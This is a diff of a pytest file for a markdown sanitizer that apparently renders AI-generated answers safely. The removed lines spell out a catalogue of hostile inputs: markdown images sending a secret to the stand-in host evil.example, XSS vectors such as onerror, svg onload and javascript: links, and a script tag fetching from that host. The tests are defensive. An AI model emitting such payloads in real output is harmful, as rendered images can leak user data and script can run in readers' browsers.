@@ -12,41 +12,7 @@ from rundash_core import ai
 from rundash_core.safety import inert_markdown
 from rundash_core.views import reports
 
-E = "http://evil.example/p.png?d=secret"
-HOSTILE = {
-    "image": f"![a]({E})",
-    "doubled bang": f"!![x]({E})",
-    "reference image": f"!![r][r]\n\n[r]: {E}",
-    "shortcut image": f"![r]\n\n[r]: {E}",
-    "collapsed image": f"![r][]\n\n[r]: {E}",
-    "img tag": f"<img src={E}>",
-    "img tag inline": f"text <img src=\"{E}\" onerror=alert(1)> more",
-    "svg onload": "<svg onload=alert(1)><image href='http://evil.example/s.png'/></svg>",
-    "nested image in link": f"[![a]({E})](https://fine.example/v)",
-    "html comment": f"<!-- ![a]({E}) --> after",
-    "autolink javascript": "<javascript:alert(1)>",
-    "autolink data": "<data:text/html,<script>alert(1)</script>>",
-    "autolink mailto": "<mailto:a@b.example>",
-    "email literal": "write a@b.example",
-    "entity bang": f"&#33;[a]({E})",
-    "entity bracket": f"!&#91;a&#93;({E})",
-    "entity tags": "&lt;img src=x onerror=alert(1)&gt;",
-    "backslash bang": f"\\![a]({E})",
-    "double backslash": f"\\\\![a]({E})",
-    "escaped bracket": f"!\\[a]({E})",
-    "javascript link": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x)",
-    "tab in scheme": "[x](<java\tscript:alert(1)>) [y](java%09script:alert(1))",
-    "vbscript": "[y](vbscript:msgbox(1))",
-    "protocol relative": "[x](//evil.example/a)",
-    "image in table": f"| a |\n|---|\n| ![a]({E}) |",
-    "image in list and quote": f"- > ![a]({E})\n- ok",
-    "image in heading": f"# ![a]({E})",
-    "image title": f"![a]({E} \"t\")",
-    "script block": "<script>fetch('http://evil.example/x')</script>",
-    "streamlit directives": ":red[x] :material/home: $\\href{http://evil.example}{x}$",
-    "setext and list text": "a\n===\n1) x\n+ y",
-    "line starts after escape": f"x\\\n![a]({E})",
-}
+from helpers.hostile import EVIL, HOSTILE_MARKDOWN
 
 _ORACLE = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 _ORACLE.validateLink = lambda url: True  # keep every target: the output itself must be safe
@@ -66,7 +32,7 @@ def assert_inert(md: str) -> None:
     assert "evil.example/s.png" not in re.findall(r'src="([^"]*)"', out)
 
 
-@pytest.mark.parametrize("source", list(HOSTILE.values()), ids=list(HOSTILE))
+@pytest.mark.parametrize("source", list(HOSTILE_MARKDOWN.values()), ids=list(HOSTILE_MARKDOWN))
 def test_hostile_markdown_is_inert(source):
     assert_inert(inert_markdown.inert(source))
     assert_inert(ai.safe_markdown(source))
@@ -76,15 +42,15 @@ def test_hostile_markdown_is_inert(source):
 
 def test_inert_output_is_a_fixed_point_for_safety():
     """Filtering twice (what a cached answer re-rendered sees) stays inert and unchanged in HTML."""
-    for source in HOSTILE.values():
+    for source in HOSTILE_MARKDOWN.values():
         once = inert_markdown.inert(source)
         assert html(inert_markdown.inert(once)) == html(once)
 
 
 def test_an_image_becomes_the_link_it_named():
-    out = html(inert_markdown.inert(f"!![chart]({E})"))
-    assert out == f'<p>!<a href="{E.replace("&", "&amp;")}">chart</a></p>\n'
-    assert 'href="https://fine.example/v">a</a>' in html(inert_markdown.inert(HOSTILE["nested image in link"]))
+    out = html(inert_markdown.inert(f"!![chart]({EVIL})"))
+    assert out == f'<p>!<a href="{EVIL.replace("&", "&amp;")}">chart</a></p>\n'
+    assert 'href="https://fine.example/v">a</a>' in html(inert_markdown.inert(HOSTILE_MARKDOWN["nested image in link"]))
 
 
 ORDINARY = """# Title
@@ -136,7 +102,7 @@ def test_stream_pieces_join_and_cut_only_between_blocks():
 
 def test_nesting_past_the_parser_limit_shows_the_lines_as_text():
     """markdown-it drops what is nested past its limit: those blocks come out as escaped lines."""
-    deep = ">" * 500 + f" hidden ![a]({E}) text\n\nafter"
+    deep = ">" * 500 + f" hidden ![a]({EVIL}) text\n\nafter"
     out = inert_markdown.inert(deep)
     assert_inert(out)
     assert "hidden" in html(out) and "after" in html(out)
